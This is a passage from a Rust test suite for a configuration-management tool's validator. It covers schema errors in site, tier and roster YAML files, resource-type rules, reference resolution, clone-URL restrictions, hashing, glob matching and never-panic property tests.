    site.yaml:2: classes.ws: missing required key "hosts" (a list of hostname globs)
    site.yaml:3: classes.Srv: "Srv" is not a valid class name; use lowercase letters, digits, "_" and "-", starting with a letter
    site.yaml:3: classes.Srv.hosts[1]: "Bad Host" is not a hostname glob (lowercase letters, digits, "-", ".", "*" and "?")
    "#);
}

// ---------------------------------------------------------------- bundles

#[test]
fn resource_template_schema_errors() {
    assert_snapshot!(check(r#"
//- site.yaml
bundles:
  base:
    - package: {}
    - group: { name: devs, gid: "1000", system: maybe }
    - service: { name: t3-serve@x, ensure: started, subscribes: file:/etc/x }
    - swap: { path: /swapfile, size_mib: -1 }
    - git_clone: { path: /srv/x, url: "git@github.com:x/y", config: { a: [1] } }
    - exec: { name: x, command: [] }
    - symlink:
        path: /usr/local/bin/k
        target: /usr/bin/kubectl
        replace: never
"#), @r#"
    site.yaml:3: bundles.base[0].package: missing required field "name"
    site.yaml:4: bundles.base[1].group.gid: expected an integer, found a string; remove the quotes
    site.yaml:4: bundles.base[1].group.system: expected true or false, found a string
    site.yaml:5: bundles.base[2].service.ensure: "started" is not one of: running, stopped
    site.yaml:5: bundles.base[2].service.subscribes: expected a list, found a string; write it as [item]
    site.yaml:6: bundles.base[3].swap.size_mib: -1 must not be negative
    site.yaml:7: bundles.base[4].git_clone.config.a: expected a string, found a list
    site.yaml:7: bundles.base[4].git_clone.url: "git@github.com:x/y" is not an https:// or file:/// url; only those clone protocols are allowed
    site.yaml:8: bundles.base[5].exec.command: must not be empty
    site.yaml:12: bundles.base[6].symlink.replace: "never" is not one of: if_absent, always
    "#);
}

#[test]
fn clone_urls_are_https_or_file_and_carry_no_credentials() {
    use crate::site::check_clone_url;
    assert_eq!(
        check_clone_url("https://forgejo.example/viktor/infra.git"),
        Ok(())
    );
    assert_eq!(check_clone_url("file:///srv/fixtures/infra.git"), Ok(()));
    for bad in [
        "http://forgejo.example/x.git",
        "ssh://git@host/x.git",
        "git@github.com:x/y",
        "file://relative/x.git",
        "https:///x.git",
    ] {
        assert!(check_clone_url(bad).is_err(), "{bad} must be refused");
    }
    let leak = check_clone_url("https://emo:SECRET-TOKEN@forgejo.example/x.git").unwrap_err();
    assert!(
        leak.contains("credentials") && !leak.contains("SECRET-TOKEN"),
        "{leak}"
    );
}

#[test]
fn resource_item_needs_exactly_one_type() {
    assert_snapshot!(check(r#"
//- site.yaml
bundles:
  base:
    - when: "true"
    - package: { name: a }
      file: { path: /a, content: x }
    - pakage: { name: b }
    - just a string
    - user: { name: alice }
"#), @r#"
    site.yaml:3: bundles.base[0]: missing resource type; expected one of: package, group, file, directory, symlink, service, git_clone, swap, exec
    site.yaml:5: bundles.base[1].file: more than one resource type in one item ("package" on line 4); split it into two list items
    site.yaml:6: bundles.base[2]: missing resource type; expected one of: package, group, file, directory, symlink, service, git_clone, swap, exec
    site.yaml:6: bundles.base[2].pakage: unknown key; did you mean "package"?
    site.yaml:7: bundles.base[3]: expected a mapping with one resource type (package, group, file, directory, symlink, service, git_clone, swap, exec), found a string
    site.yaml:8: bundles.base[4]: missing resource type; expected one of: package, group, file, directory, symlink, service, git_clone, swap, exec
    site.yaml:8: bundles.base[4].user: user accounts come from roster.yaml, not from bundles; add the person to the roster
    "#);
}

#[test]
fn file_template_rules() {
    assert_snapshot!(check(r##"
//- site.yaml
bundles:
  user-base:
    - file: { path: /a }
    - file: { path: /b, content: x, template: kubeconfig.yaml.j2 }
    - file: { path: /c, template: missing.j2 }
    - file: { path: /d, source: "{{ user.name }}.txt" }
    - file: { path: /e, content: x, replace: if_marked }
    - file: { path: /f, content: x, marker: "# managed" }
    - file: { path: /g, content: x, mode: "0999" }
    - directory: { path: /h, mode: rwx }
    - file: { path: /i, template: kubeconfig.yaml.j2, mode: 0600, replace: if_marked, marker: "# steward" }
    - file: { path: /j, source: sub/dir/x.conf, mode: "0o644" }
//- files/kubeconfig.yaml.j2
apiVersion: v1
//- files/sub/dir/x.conf
x
"##), @r#"
    site.yaml:3: bundles.user-base[0].file: needs one of template, source or content
    site.yaml:4: bundles.user-base[1].file.content: give only one of template, source or content (template is given too)
    site.yaml:5: bundles.user-base[2].file.template: no file "files/missing.j2" in the site; add it or fix the name
    site.yaml:6: bundles.user-base[3].file.source: must name a file literally; templates are not allowed here
    site.yaml:7: bundles.user-base[4].file.replace: replace: if_marked needs a marker; add marker: <text Steward's file carries>
    site.yaml:8: bundles.user-base[5].file.marker: a marker is only used with replace: if_marked or replace: if_stale
    site.yaml:9: bundles.user-base[6].file.mode: "0999" is not a file mode; write octal digits such as "0644"
    site.yaml:10: bundles.user-base[7].directory.mode: "rwx" is not a file mode; write octal digits such as "0644"
    "#);
}

#[test]
fn bundle_references_must_resolve() {
    // A templated name counts as a glob: `{{ item }}` may be any package (so package:fish is
    // fine), `{{ user.home }}/.kube/config` is no `/etc/issue`.
    assert_snapshot!(check(r#"
//- roster.yaml
users:
  emo: { authentik_user: e, k8s_user: emo, tier: power-user }
//- site.yaml
users: { requires: ["package:zsh", "package:fish", "zsh"] }
bundles:
  host-base:
    - package: { name: zsh }
    - package: { name: "{{ item }}" }
      for_each: site.vars.extra_packages
    - file: { path: /etc/motd, content: hi }
  user-base:
    - directory: { path: "{{ user.home }}/.kube" }
    - file: { path: "{{ user.home }}/.kube/config", content: x }
      requires: ["directory:{{ user.home }}/.kube", "user:{{ user.name }}", "user:emo", "user:ghost", "file:/etc/motd", "file:/etc/issue", "pkg:zsh", "service:"]
"#), @r#"
    site.yaml:1: users.requires[2]: "zsh" is not a resource id; write <type>:<name>, e.g. package:zsh
    site.yaml:11: bundles.user-base[1].requires[3]: no roster user "ghost"; add them to roster.yaml or fix the id
    site.yaml:11: bundles.user-base[1].requires[5]: requires "file:/etc/issue", but no bundle declares file "/etc/issue"; add it to a bundle or fix the id
    site.yaml:11: bundles.user-base[1].requires[6]: unknown resource type "pkg" in "pkg:zsh"; expected user or one of: package, group, file, directory, symlink, service, git_clone, swap, exec
    site.yaml:11: bundles.user-base[1].requires[7]: "service:" has an empty name
    "#);
}

#[test]
fn bundle_templates_keep_fields_with_lines() {
    let site = site(
        r#"
//- site.yaml
bundles:
  user-base:
    - git_clone:
        path: "{{ user.home }}/code/{{ item }}"
        url: "https://forgejo.example/viktor/{{ item }}"
        config: { pull.rebase: true, user.name: "{{ user.full_name }}" }
        refresh: true
      for_each: user.repos
      requires: ["user:{{ user.name }}"]
"#,
    );
    let t = &site.config.bundles["user-base"].resources[0];
    assert_eq!(
        (t.kind.as_str(), t.loc.to_string().as_str()),
        ("git_clone", "site.yaml:3")
    );
    assert_eq!(t.for_each.as_deref(), Some("user.repos"));
    assert_eq!(t.requires, ["user:{{ user.name }}"]);
    let fields: Vec<String> = t
        .fields
        .iter()
        .map(|(k, (line, v))| format!("{k}@{line} {v}"))
        .collect();
    assert_snapshot!(fields.join("\n"), @r#"
    config@6 {"pull.rebase":"true","user.name":"{{ user.full_name }}"}
    path@4 "{{ user.home }}/code/{{ item }}"
    refresh@7 true
    url@5 "https://forgejo.example/viktor/{{ item }}"
    "#);
}

// ---------------------------------------------------------------- all files, sorted; hash

#[test]
fn errors_of_all_files_are_reported_sorted() {
    assert_snapshot!(check(r#"
//- site.yaml
catalog: { expires_after: 1s }
bundles:
  b:
    - package: {}
//- tiers.yaml
tiers:
  power-user: { bundles: [nope] }
//- roster.yaml
users:
  z: { authentik_user: z, k8s_user: z, tier: nope }
  a: { authentik_user: a, k8s_user: a, tier: power-user, uid: 1 }
"#), @r#"
    roster.yaml:2: users.z.tier: unknown tier "nope"; known tiers: power-user
    roster.yaml:3: users.a.uid: uid 1 is below 1000 (system range); only tiers with allow_low_uid: true may pin one
    site.yaml:1: catalog.expires_after: "1s" must be between 10m and 90d
    site.yaml:4: bundles.b[0].package: missing required field "name"
    tiers.yaml:2: tiers.power-user.bundles[0]: unknown bundle "nope"; known bundles: b
    "#);
}

#[test]
fn hash_covers_names_and_contents() {
    let base = fixture("//- files/a.j2\nab\n");
    let hash = |files: &BTreeMap<String, String>| parse_site(files).unwrap().hash;
    let h0 = hash(&base);
    assert_eq!(h0.len(), 64);
    assert_eq!(h0, hash(&base.clone()), "deterministic");
    let mut renamed = base.clone();
    let content = renamed.remove("files/a.j2").unwrap();
    renamed.insert("files/b.j2".into(), content);
    assert_ne!(h0, hash(&renamed));
    let mut edited = base.clone();
    edited.insert("files/a.j2".into(), "ab\n\n".into());
    assert_ne!(h0, hash(&edited));
    // Framing: moving bytes between a name and its content changes the hash.
    let mut a = fixture("");
    a.insert("files/ab".into(), "c".into());
    let mut b = fixture("");
    b.insert("files/a".into(), "bc".into());
    assert_ne!(hash(&a), hash(&b));
}

// ---------------------------------------------------------------- never panics

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn parse_site_never_panics_on_arbitrary_roster(text in ".{0,300}") {
        let mut files = fixture("");
        files.insert("roster.yaml".into(), text);
        let _ = parse_site(&files);
    }

    #[test]
    fn parse_site_never_panics_on_roster_like_text(
        text in "users:\n(  [a-z0-9_{}:,\\[\\] \"'~&*.-]{0,40}\n){0,8}"
    ) {
        let mut files = fixture("");
        files.insert("roster.yaml".into(), text);
        let _ = parse_site(&files);
    }

    #[test]
    fn parse_site_never_panics_on_arbitrary_site_and_tiers(site in ".{0,200}", tiers in ".{0,200}") {
        let mut files = fixture("");
        files.insert("site.yaml".into(), site);
        files.insert("tiers.yaml".into(), tiers);
        let _ = parse_site(&files);
    }

    #[test]
    fn parse_site_never_panics_on_bundle_like_text(
        text in "bundles:\n  b:\n(    [a-z_{}:,\\[\\] \"'/.-]{0,40}\n){0,8}"
    ) {
        let mut files = fixture("");
        files.insert("site.yaml".into(), text);
        let _ = parse_site(&files);
    }
}

#[test]
fn template_names_match_as_globs() {
    use crate::site::read::{glob_match, template_glob};
    assert_eq!(
        template_glob("{{ user.home }}/.kube/config"),
        "*/.kube/config"
    );
    assert_eq!(
        template_glob("/a/{{ x }}{{ y }}/b{% if z %}c{% endif %}"),
        "/a/*/b*c*"
    );
    assert_eq!(template_glob("/a/{{ unclosed"), "/a/*");
    assert_eq!(template_glob("{ not a template }"), "{ not a template }");
    assert!(glob_match("*/.kube/config", "/home/emo/.kube/config"));
    assert!(!glob_match("*/.kube/config", "/etc/issue"));
    assert!(glob_match("*", ""));
    assert!(glob_match("a*b*c", "abc"));
    assert!(!glob_match("a*b*c", "acb"));
    assert!(!glob_match("ab*ba", "aba"));
    assert!(glob_match("exact", "exact") && !glob_match("exact", "exactly"));
}
